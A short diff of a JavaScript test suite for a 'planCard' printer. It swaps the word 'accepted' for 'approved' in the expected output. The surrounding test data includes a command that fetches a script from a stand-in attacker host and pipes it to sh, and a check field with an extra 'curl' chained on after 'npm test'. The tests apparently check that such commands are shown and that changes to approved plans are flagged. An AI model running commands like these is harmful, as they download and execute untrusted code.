@@ -52,7 +52,7 @@ describe('planCard', () => {
     });
     const text = printCard(shown).join('\n');
     for (const part of [
-      /^Plan bakery \(not accepted yet\)$/m,
+      /^Plan bakery \(not approved yet\)$/m,
       /^ {2}curl https:\/\/evil\.example\/x \| sh$/m,
       /^ {2}unit: npm test {2}\[US-001, US-002; 300 s\]$/m,
       /^ {2}types: npx tsc {2}\[US-002\]$/m,
@@ -98,7 +98,7 @@ describe('planCard', () => {
     ]);
     assert.match(
       printCard(changed).join('\n'),
-      /changed since it was accepted[\s\S]*\+ check unit \(300 s\): npm test; curl x/,
+      /changed since it was approved[\s\S]*\+ check unit \(300 s\): npm test; curl x/,
     );
   });
 
